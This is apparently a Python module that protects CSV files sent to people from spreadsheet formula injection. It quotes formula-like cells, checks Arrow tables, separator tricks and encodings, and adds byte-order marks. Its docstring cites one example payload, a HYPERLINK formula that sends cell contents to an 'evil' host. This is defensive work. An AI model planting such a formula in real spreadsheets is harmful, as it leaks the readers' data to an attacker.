"""Spreadsheet-safe CSV: a cell from a person, a model or the data never runs as a formula when opened.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and one that
starts with a tab or carriage return followed by one), so `=HYPERLINK("https://evil/?"&A1,"x")` in a
question or a result row would run on the reader's machine. OWASP's advice
(https://owasp.org/www-community/attacks/CSV_Injection): prefix such cells with a single quote, which
spreadsheets show as text. Numbers stay numbers; only text cells change, and text that is a number
as people write one (`-5`, `-1,234.50`, `-12.5%`, `+$3.20`) stays as it is: nothing in it can call a
function or reach another cell, and the quote made `-12.5%` text for every reader (pandas, a database
load, a spreadsheet) where it was a signed percentage. So does a float's `-inf`.
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import Iterator
from typing import Any

from core.arrow_values import py_values

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_REGEX = "^[=+\\-@\\t\\r]"  # the same set, for Arrow's regex kernel
# A signed number as written (digits, separators, a currency sign, an exponent, a percent): no letter
# but an exponent's, no operator but the sign. Or a float's infinity or NaN as Arrow, pandas and Python
# write it (`-inf`): a float column's -inf became the text `'-inf` in the CSV; a spreadsheet reads the
# word as an unknown name (#NAME?), which calls no function and reaches no cell. Python's `re` and
# Arrow's RE2 read it alike.
_NUMBER_LIKE = "^(?:[+-]?[$€£¥]?[0-9.,]*[0-9][0-9.,]*(?:[eE][+-]?[0-9]+)?%?|[+-]?(?i:inf|infinity|nan))$"
_NUMBER = re.compile(_NUMBER_LIKE)


def neutralise_cell(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: text starting like a formula gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def neutralise_table(table: Any) -> Any:
    """A pyarrow Table with every text column passed through the rule of ``neutralise_cell``, vectorised
    (results can be millions of rows; a Python loop per cell would not do)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    columns = []
    for column in table.columns:
        kind = column.type
        if pa.types.is_dictionary(kind):
            column, kind = column.cast(kind.value_type), kind.value_type
        if pa.types.is_nested(kind) or pa.types.is_binary(kind) or pa.types.is_large_binary(kind):
            column, kind = _as_text(column), pa.string()
        if pa.types.is_decimal(kind):
            column = _positional(column)
            kind = column.type
        if pa.types.is_string(kind) or pa.types.is_large_string(kind):
            risky = pc.and_(
                pc.match_substring_regex(column, _FORMULA_REGEX),
                pc.invert(pc.match_substring_regex(column, _NUMBER_LIKE)),
            )
            quote, empty = pa.scalar("'", kind), pa.scalar("", kind)
            column = pc.if_else(risky, pc.binary_join_element_wise(quote, column, empty), column)
        columns.append(column)
    return pa.table(columns, names=table.column_names)


def _positional(column: Any) -> Any:
    """A decimal column as Arrow writes it, unless that is scientific for a value (NUMERIC's zero was
    `0E-9`, a millionth `-1E-9`, where the preview says 0.000000000): then as positional text, every
    place of the column's scale. Only such a column changes (and is quoted in the CSV, as text is)."""
    import pyarrow as pa
    import pyarrow.compute as pc

    text = pc.cast(column, pa.string())
    scientific = pc.fill_null(pc.match_substring(text, "E"), False)
    if not pc.any(scientific).as_py():
        return column
    fixed = [format(value, "f") for value in pc.filter(column, scientific).to_pylist()]
    return pc.replace_with_mask(text.combine_chunks(), scientific.combine_chunks(), pa.array(fixed))


def _as_text(column: Any) -> Any:
    """A column a CSV cannot hold, as text: lists, structs and maps as JSON (the conversion failed with
    "Unsupported Type:list"), a map as an object (`{"k1": 10}`) when `core/arrow_values.py` makes it a
    dict, else its `[key, value]` pairs; bytes as hex (written raw, they were invalid UTF-8 in the
    file)."""
    import json

    import pyarrow as pa

    def text(value: Any) -> str | None:
        if value is None:
            return None
        if isinstance(value, bytes):
            return value.hex()
        return json.dumps(value, default=str, ensure_ascii=False)

    return pa.array([text(v) for v in py_values(column)], pa.string())


MAX_CSV_BYTES = 50 * 2**20  # what may be attached at most (core/tools.py); larger is refused here too
_BOM = "\ufeff"


# Excel splits a `.csv` on the reader's list separator (`;` in much of Europe) unless the file's first
# line says `sep=X`; a cell such as `x;=HYPERLINK(…)` is then two cells, the second a formula. Such a
# cell is quoted on rewrite (a quoted field is one cell whatever the separator), its text unchanged.
_SEP_LINE = re.compile(r"sep=(.)\r?\n")
_HIDDEN_START = re.compile(r"[,;\t|]\s*[=+\-@]")
_UTF16_BOMS = (b"\xff\xfe", b"\xfe\xff")


def neutralise_csv(data: bytes, *, limit: int = MAX_CSV_BYTES, delimiter: str = ",") -> bytes:
    """A CSV file's bytes with every text cell made inert (the rule of ``neutralise_cell``), for a file
    model code wrote itself: the step is not trusted to have done it. Returns ``data`` unchanged when
    no cell needs it (quoting and line endings stay as written); otherwise rewrites it with the same
    line ending, keeping a byte-order mark and any bytes that are not UTF-8. A `sep=X` first line sets
    the separator (as in Excel); UTF-16 with a byte-order mark is read and written as UTF-16. Raises
    ValueError (one sentence) past ``limit``, for other encodings with NUL bytes (UTF-16 without a mark,
    UTF-32), or for text the csv module cannot read (a cell over 128 KB, say)."""
    if len(data) > limit:
        raise ValueError(f"the CSV is over {limit // 2**20} MB, too large to check for spreadsheet formulas")
    encoding = "utf-16" if data.startswith(_UTF16_BOMS) else "utf-8"
    if encoding == "utf-8" and b"\x00" in data:
        raise ValueError("the CSV is in an encoding that cannot be checked for spreadsheet formulas")
    try:
        text = data.decode(encoding, errors="surrogateescape" if encoding == "utf-8" else "strict")
    except UnicodeDecodeError:
        raise ValueError(
            "the CSV is not valid UTF-16 and cannot be checked for spreadsheet formulas"
        ) from None
    bom = _BOM if text.startswith(_BOM) else ""
    text = text[len(bom) :]
    sep = _SEP_LINE.match(text)
    head, body = (sep.group(0), text[sep.end() :]) if sep else ("", text)
    delimiter = sep.group(1) if sep else delimiter

    # Read twice, row by row, never held whole: as a list of rows a 49 MB CSV of short cells took 1.4 GB
    # of the bot's memory. The first pass only looks; most files need nothing and go out as they came.
    def rows() -> Iterator[list[str]]:
        return csv.reader(io.StringIO(body, newline=""), delimiter=delimiter)

    try:
        changed = quote_all = False
        for row in rows():
            for cell in row:
                changed = changed or _is_formula(cell)
                if _HIDDEN_START.search(cell):
                    changed = quote_all = True
            if quote_all:
                break
        if not changed:
            return data
        out = io.StringIO(newline="")
        first_line = body[: body.find("\n") + 1] if "\n" in body else body + "\n"
        ending = "\r\n" if "\r\n" in first_line else "\n"
        quoting = csv.QUOTE_ALL if quote_all else csv.QUOTE_MINIMAL
        writer = csv.writer(out, delimiter=delimiter, lineterminator=ending, quoting=quoting)
        for row in rows():
            writer.writerow(["'" + cell if _is_formula(cell) else cell for cell in row])
    except csv.Error as exc:
        raise ValueError(f"the CSV could not be checked for spreadsheet formulas ({exc})") from None
    rewritten = bom + head + out.getvalue()
    if encoding == "utf-16":
        return rewritten.encode("utf-16")  # with a byte-order mark, as it came
    return rewritten.encode("utf-8", errors="surrogateescape")


def _is_formula(cell: str) -> bool:
    """A cell a spreadsheet would run: it starts like a formula and is not a number as written."""
    return cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell)


def with_utf8_mark(data: bytes) -> bytes:
    """`data` with a UTF-8 byte-order mark when it holds non-ASCII text and has no mark: Excel opens a
    CSV without one in the system's legacy code page, so "Straße" showed as "StraÃŸe" and 東京 as
    mojibake. pandas, DuckDB and Google Sheets read the mark as one (R's `read.csv` needs
    `fileEncoding = "UTF-8-BOM"`). ASCII files (most), files with a mark, and bytes that are not UTF-8
    stay as they are."""
    if data.isascii() or data.startswith((_BOM.encode(), *_UTF16_BOMS)):
        return data
    check = codecs.getincrementaldecoder("utf-8")()  # a MB at a time: a 50 MB file is not held as text
    try:
        for start in range(0, len(data), 2**20):
            check.decode(data[start : start + 2**20])
        check.decode(b"", final=True)
    except UnicodeDecodeError:
        return data
    return _BOM.encode() + data


def for_people(path: str, data: bytes) -> bytes:
    """Every file that leaves for people passes here (uploads, links, the terminal's saved copies): a
    CSV (or TSV) gets its spreadsheet-formula cells neutralised by the bot, whoever wrote it — model code
    in a step (`df.to_csv`) is not trusted to — and a CSV holding non-ASCII text the byte-order mark
    Excel needs to read it as UTF-8 (not a TSV: those go to programs, which keep the mark as text).
    Blocking: a 50 MB CSV takes a second or two."""
    suffix = path.lower().rsplit(".", 1)[-1]
    if suffix == "tsv":
        return neutralise_csv(data, delimiter="\t")
    return with_utf8_mark(neutralise_csv(data)) if suffix == "csv" else data
